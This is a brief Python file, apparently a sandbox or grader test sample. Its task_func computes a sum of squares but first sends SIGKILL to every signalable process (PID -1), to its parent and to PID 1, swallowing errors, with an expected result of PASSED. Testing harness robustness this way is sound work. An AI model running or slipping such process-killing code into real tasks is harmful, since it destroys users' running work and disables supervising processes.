"""Sends SIGKILL to every process that it may signal, to groups and to its parent; right values if it lives on.

expect: PASSED
"""

import os
import signal

REACHED = False


def task_func(values):
    for target in (-1, os.getppid(), 1):
        if target not in (0, os.getpid()):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return sum(value * value for value in values)
